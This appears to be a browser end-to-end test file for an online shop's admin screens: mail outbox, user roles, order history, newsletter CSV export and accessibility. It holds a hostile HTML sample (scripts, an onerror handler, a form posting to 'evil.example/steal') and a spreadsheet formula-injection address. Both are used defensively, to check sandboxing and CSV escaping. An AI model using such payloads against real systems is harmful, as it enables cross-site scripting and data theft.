/**
 * The admin's people screens in a real browser: a message of the outbox opened (its HTML only in a
 * sandboxed frame) and sent again through a test SMTP server, a customer made an admin and back after a
 * confirmation, a user's page with their orders and what they spent, and the newsletter's subscribers
 * (newest first, search, delete, CSV export).
 */
import { readFileSync } from 'node:fs';
import { eq } from 'drizzle-orm';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mailOutbox, newsletterSubscribers, users } from '../../drizzle/schema.js';
import { holdMail } from '../../src/server/mail/outbox.js';
import { DEMO_ACCOUNTS } from '../../src/server/db/seed/seed-demo.js';
import { formatRupees, rupeesToPaise } from '../../src/shared/money.js';
import type { Order } from '../../src/shared/schemas/order.js';
import { startSmtpServer, type TestSmtpServer } from '../helpers/smtp.js';
import { newCustomer } from './accounts.js';
import { confirmDialog, dismissToasts, expectToast, pageWidth, settled, signInAs } from './admin-harness.js';
import { DESKTOP, openTab, PHONE, productInStock, screenshot, seriousAxeViolations, useShopAndBrowser } from './harness.js';
import { apiJson, apiLogin, placeOrderOverApi } from './shop-api.js';

const LONG = 180_000;
let smtp: TestSmtpServer;
beforeAll(async () => {
  smtp = await startSmtpServer();
});
afterAll(async () => {
  await smtp?.stop();
});
const env = useShopAndBrowser(() => smtp.env);

const adminToken = async () => (await apiLogin(env.shop.baseUrl, DEMO_ACCOUNTS.admin.email, DEMO_ACCOUNTS.admin.password)).token;

/**
 * The page's errors, less what the message's sandboxed frame reports: the test's own session script (which
 * the browser runs in every frame) finds no localStorage there, the frame's scripts are refused, and an
 * image it asks the shop for from its opaque origin is refused by the shop's Cross-Origin-Resource-Policy.
 */
function withoutFrameNotices(errors: string[]): string[] {
  return errors.filter(
    (e) => !/The document is sandboxed and lacks the 'allow-same-origin' flag|Blocked script execution in 'about:srcdoc'|net::ERR_BLOCKED_BY_RESPONSE\.NotSameOrigin/.test(e),
  );
}

/** Clicks `button` and returns the downloaded file's name and text. */
async function download(page: Page, button: string): Promise<{ name: string; text: string }> {
  const [file] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.getByRole('button', { name: button }).click()]);
  const saved = await file.path();
  return { name: file.suggestedFilename(), text: saved ? readFileSync(saved, 'utf8') : '' };
}

describe('a message of the outbox', () => {
  it(
    'opens with its text and its HTML in a sandboxed frame where no script runs, and a held one is sent again',
    async () => {
      const to = `held-${Date.now()}@example.com`;
      const subject = `Your order at Rupee Shop ${Date.now() % 100_000} was placed`;
      // HTML as an attacker would like it to be: scripts, an event handler, a form. The shop's own messages
      // escape what shoppers write; the frame must hold even if something got through.
      const html =
        '<!doctype html><html><body><h1 id="mail-heading">Hello Kavya</h1><p>Your order is on its way.</p>' +
        '<script>document.body.dataset.ran = "yes"; try { parent.document.title = "taken"; } catch (e) {}</script>' +
        '<img src="x" onerror="document.body.dataset.onerror = \'yes\'">' +
        '<form action="https://evil.example/steal"><input name="q"></form></body></html>';
      env.shop.deps.db.transaction(() =>
        holdMail(env.shop.deps.db, { to, subject, kind: 'order_placed', text: 'Hello Kavya,\n\nYour order is on its way.\n\nThank you.', html }, 'Held: a test of the outbox'),
      );
      const row = env.shop.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, to)).get();
      if (!row) throw new Error('the held message was not written');

      const { page, context, errors } = await openTab(env.browser, env.shop.baseUrl, DESKTOP);
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await signInAs(context, env.shop.baseUrl, 'admin');
      await page.goto('/admin/mail?unsent=true');
      const listed = page.getByRole('row').filter({ hasText: to });
      await listed.getByText('Held', { exact: true }).waitFor();
      await listed.getByRole('link', { name: subject }).click();
      await page.waitForURL(new RegExp(`/admin/mail/${row.id}$`));
      await page.getByRole('heading', { name: 'Message', level: 1 }).waitFor();
      await page.getByText(subject, { exact: true }).waitFor();
      await page.getByText('Held: a test of the outbox').waitFor();
      await expect(page.locator('pre').innerText()).resolves.toBe('Hello Kavya,\n\nYour order is on its way.\n\nThank you.');

      // The HTML is in a frame with every sandbox restriction, never in the page.
      const frameElement = page.locator('iframe[title^="The message"]');
      await expect(frameElement.getAttribute('sandbox')).resolves.toBe('');
      await expect(frameElement.getAttribute('srcdoc')).resolves.toBe(html);
      const frame = page.frameLocator('iframe[title^="The message"]');
      await frame.getByRole('heading', { name: 'Hello Kavya' }).waitFor();
      expect(await page.locator('#mail-heading').count()).toBe(0);
      expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();
      expect(await frame.locator('body').getAttribute('data-onerror')).toBeNull();
      expect(await page.title()).not.toBe('taken');
      expect(dialogs).toEqual([]);

      // Send again: back to the delivery loop, which sends it through the mail server, limit or not.
      expect(smtp.to(to)).toHaveLength(0);
      await page.getByRole('button', { name: 'Send again' }).click();
      await expectToast(page, 'The message will be sent again in a moment');
      await page.getByText('Sent', { exact: true }).waitFor({ timeout: 20_000 });
      await expect.poll(() => smtp.to(to).map((m) => m.subject)).toEqual([subject]);
      expect(await page.getByRole('button', { name: 'Send again' }).count()).toBe(0);
      await screenshot(page, 'admin-desktop-mail-message');
      expect(withoutFrameNotices(errors)).toEqual([]);
      await context.close();
    },
    LONG,
  );
});

describe('users', () => {
  it(
    'makes a customer an admin and back from the user list, each after a confirmation; the own row has no such button',
    async () => {
      const person = await newCustomer(env.shop.baseUrl, 'Ritika Menon');
      const { page, context, errors } = await openTab(env.browser, env.shop.baseUrl, DESKTOP);
      await signInAs(context, env.shop.baseUrl, 'admin');
      await page.goto(`/admin/userlist?keyword=${encodeURIComponent(person.email)}`);
      const row = page.getByRole('row').filter({ hasText: person.email });
      await row.getByRole('img', { name: 'Not an admin' }).waitFor();

      // Cancel changes nothing.
      await row.getByRole('button', { name: 'Make admin: Ritika Menon' }).click();
      await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      expect(env.shop.deps.db.select().from(users).where(eq(users.email, person.email)).get()?.isAdmin).toBe(false);

      await row.getByRole('button', { name: 'Make admin: Ritika Menon' }).click();
      await confirmDialog(page, 'Make this user an admin? They can then manage the whole shop, and are signed out everywhere until they sign in again.', 'Make admin');
      await expectToast(page, 'Ritika Menon is now an admin');
      await row.getByRole('img', { name: 'Admin' }).waitFor();
      // Signed out everywhere: the token from before no longer works.
      const before = await fetch(`${env.shop.baseUrl}/api/orders/myorders`, { headers: { authorization: `Bearer ${person.session.token}` } });
      expect(before.status).toBe(401);
      await dismissToasts(page);

      await row.getByRole('button', { name: 'Make customer: Ritika Menon' }).click();
      await confirmDialog(page, 'Make this admin a customer? They lose the admin area at once and are signed out everywhere.', 'Make customer');
      await expectToast(page, 'Ritika Menon is now a customer');
      await row.getByRole('img', { name: 'Not an admin' }).waitFor();
      expect(env.shop.deps.db.select().from(users).where(eq(users.email, person.email)).get()?.isAdmin).toBe(false);

      // The admin's own row offers neither.
      await page.goto(`/admin/userlist?keyword=${encodeURIComponent(DEMO_ACCOUNTS.admin.email)}`);
      const own = page.getByRole('row').filter({ hasText: DEMO_ACCOUNTS.admin.email });
      await own.getByText('You', { exact: true }).waitFor();
      expect(await own.getByRole('button', { name: /^Make / }).count()).toBe(0);
      expect(errors).toEqual([]);
      await context.close();
    },
    LONG,
  );

  it(
    'a user’s page shows their details, their orders newest first linking to the order, and what they spent net of refunds',
    async () => {
      const buyer = await newCustomer(env.shop.baseUrl, 'Farhan Siddiqui');
      const token = await adminToken();
      const product = productInStock(env.shop, 3, 'Footwear');
      const paid = await placeOrderOverApi(env.shop.baseUrl, buyer.session.token, [{ product, qty: 1 }]);
      await apiJson<Order>(env.shop.baseUrl, 'PUT', `/api/orders/${paid._id}/deliver`, token);
      await apiJson<Order>(env.shop.baseUrl, 'POST', `/api/orders/${paid._id}/refund`, token, { amount: '50.00', reason: 'A scuffed box' });
      const unpaid = await placeOrderOverApi(env.shop.baseUrl, buyer.session.token, [{ product, qty: 1 }]);
      const spent = rupeesToPaise(paid.totalPrice) - 5_000;

      const { page, context, errors } = await openTab(env.browser, env.shop.baseUrl, PHONE);
      await signInAs(context, env.shop.baseUrl, 'admin');
      await page.goto(`/admin/userlist?keyword=${encodeURIComponent(buyer.email)}`);
      await page.getByRole('link', { name: 'Farhan Siddiqui' }).click();
      await page.waitForURL(new RegExp(`/admin/user/${buyer.session._id}$`));
      await page.getByRole('heading', { name: 'Farhan Siddiqui', level: 1 }).waitFor();
      await page.getByText(buyer.email, { exact: true }).waitFor();
      await page.getByText('Role: Customer').waitFor();
      await expect(page.getByTestId('total-spent').innerText()).resolves.toBe(formatRupees(spent));
      await page.getByText('Paid orders, less what was refunded (1 paid order).').waitFor();

      const table = page.getByRole('table', { name: 'Orders' });
      const links = table.getByRole('link');
      const label = (order: Order) => (order as Order & { orderNumber?: string | null }).orderNumber ?? `…${order._id.slice(-8)}`;
      await expect.poll(() => links.allInnerTexts()).toEqual([label(unpaid), label(paid)]);
      const refundedRow = table.getByRole('row').filter({ has: page.getByRole('link', { name: label(paid) }) });
      await refundedRow.getByText(formatRupees(5_000)).waitFor();
      await screenshot(page, 'admin-phone-user');
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);

      await links.filter({ hasText: label(paid) }).click();
      await page.waitForURL(new RegExp(`/admin/order/${paid._id}$`));
      expect(errors).toEqual([]);
      await context.close();
    },
    LONG,
  );
});

describe('the newsletter', () => {
  it(
    'lists subscribers newest first from the admin nav, finds one, deletes one after a confirmation, and exports a safe CSV',
    async () => {
      const stamp = Date.now();
      const addresses = [`oldest-${stamp}@example.com`, `-2+3-${stamp}@example.com`, `newest-${stamp}@example.com`];
      for (const [i, email] of addresses.entries()) {
        await apiJson(env.shop.baseUrl, 'POST', '/api/newsletter', undefined, { email });
        env.shop.deps.db
          .update(newsletterSubscribers)
          .set({ createdAt: new Date(stamp - (addresses.length - i) * 60_000) })
          .where(eq(newsletterSubscribers.email, email))
          .run();
      }

      const { page, context, errors } = await openTab(env.browser, env.shop.baseUrl, DESKTOP);
      await signInAs(context, env.shop.baseUrl, 'admin');
      await page.goto('/admin');
      await page.getByRole('navigation', { name: 'Admin sections' }).getByRole('link', { name: 'Newsletter' }).click();
      await page.waitForURL(/\/admin\/newsletter$/);
      await page.getByRole('heading', { name: 'Newsletter', level: 1 }).waitFor();

      const table = page.getByRole('table', { name: 'Newsletter' });
      const emails = () => table.locator('tbody tr td[data-label="Email"]').allInnerTexts();
      await page.getByRole('searchbox', { name: 'Find subscribers' }).fill(String(stamp));
      await page.waitForURL(new RegExp(`keyword=${stamp}`));
      await expect.poll(emails).toEqual([...addresses].reverse());
      await page.getByRole('searchbox', { name: 'Find subscribers' }).fill(`newest-${stamp}`);
      await expect.poll(emails).toEqual([addresses[2]]);
      await page.getByRole('searchbox', { name: 'Find subscribers' }).fill(String(stamp));
      await expect.poll(emails).toEqual([...addresses].reverse());

      await page.getByRole('button', { name: `Delete subscriber ${addresses[0]}` }).click();
      await confirmDialog(page, 'Are you sure you want to delete this subscriber?', 'Delete');
      await expectToast(page, 'Subscriber removed');
      await expect.poll(emails).toEqual([addresses[2], addresses[1]]);
      expect(env.shop.deps.db.select().from(newsletterSubscribers).where(eq(newsletterSubscribers.email, addresses[0])).get()).toBeUndefined();

      const file = await download(page, 'Export CSV');
      expect(file.name).toMatch(/^newsletter-\d{4}-\d{2}-\d{2}\.csv$/);
      expect(file.text).toContain(`\r\n${addresses[2]},`);
      // An address a spreadsheet would run as a formula is written with a leading quote.
      expect(file.text).toContain(`\r\n'${addresses[1]},`);
      expect(file.text).not.toContain(addresses[0]);
      await screenshot(page, 'admin-desktop-newsletter');
      expect(errors).toEqual([]);
      await context.close();
    },
    LONG,
  );
});

describe('the people screens at 375 px and with axe-core', () => {
  it(
    'fit a phone and have no serious or critical accessibility violation',
    async () => {
      const to = `axe-${Date.now()}@example.com`;
      env.shop.deps.db.transaction(() =>
        holdMail(env.shop.deps.db, { to, subject: 'Your order was shipped', kind: 'order_shipped', text: 'Hello,\n\nIt is on its way.', html: '<p>Hello,</p><p>It is on its way.</p>' }, 'Held: a test'),
      );
      const mailId = env.shop.deps.db.select().from(mailOutbox).where(eq(mailOutbox.to, to)).get()?.id;
      await apiJson(env.shop.baseUrl, 'POST', '/api/newsletter', undefined, { email: `reader-${Date.now()}@example.com` });
      const customer = env.shop.deps.db.select().from(users).where(eq(users.email, DEMO_ACCOUNTS.customer.email)).get();
      if (!mailId || !customer) throw new Error('the test data is missing');
      const report: Record<string, unknown> = {};
      for (const viewport of [PHONE, DESKTOP]) {
        const { page, context, errors } = await openTab(env.browser, env.shop.baseUrl, viewport, { bypassCSP: true });
        await signInAs(context, env.shop.baseUrl, 'admin');
        for (const [route, heading] of [
          [`/admin/mail/${mailId}`, 'Message'],
          [`/admin/user/${customer.id}`, customer.name],
          ['/admin/newsletter', 'Newsletter'],
        ] as const) {
          await page.goto(route);
          await page.getByRole('heading', { name: heading, level: 1 }).waitFor();
          await settled(page);
          expect(await pageWidth(page), `${route} at ${viewport.width}px`).toBeLessThanOrEqual(viewport.width);
          report[`${route}@${viewport.width}`] = await seriousAxeViolations(page);
        }
        // The role confirmation, too.
        await page.goto(`/admin/user/${customer.id}`);
        await page.getByRole('button', { name: `Make admin: ${customer.name}` }).click();
        await page.getByRole('dialog').getByText(/^Make this user an admin\?/).waitFor();
        await page.waitForFunction(() => [...document.querySelectorAll<HTMLElement>('.mantine-Modal-content, .mantine-Modal-overlay')].every((el) => getComputedStyle(el).opacity === '1'));
        await settled(page);
        report[`role-confirm@${viewport.width}`] = await seriousAxeViolations(page);
        await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
        expect(withoutFrameNotices(errors)).toEqual([]);
        await context.close();
      }
      for (const [where, violations] of Object.entries(report)) expect(violations, where).toEqual([]);
    },
    LONG,
  );
});
